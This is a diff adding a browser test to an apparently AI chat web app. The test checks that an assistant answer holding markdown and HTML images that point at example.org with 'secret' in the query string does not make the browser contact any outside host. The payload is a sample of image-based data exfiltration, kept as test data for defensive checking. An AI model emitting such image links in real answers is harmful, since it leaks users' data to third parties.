@@ -172,6 +172,14 @@ def test_the_browser_knows_no_other_address(page, box):
     assert not page.get_by_label("Share").is_visible()
 
 
+def test_an_answer_cannot_make_the_browser_call_somebody(page, box):
+    pictures = "![](https://example.org/?secret) <img src='https://example.org/?more'>"
+    box.script([{"content": f"Voici {pictures} et voilà"}])
+    ask(page, "Montre")
+    page.get_by_text("et voilà").wait_for()
+    bill(page)
+
+
 def test_without_a_key_it_runs_on_its_own_sandbox(browser):
     with started({}) as alone, visiting(browser, alone.url) as page:
         page.get_by_text("embedded sandbox").wait_for()
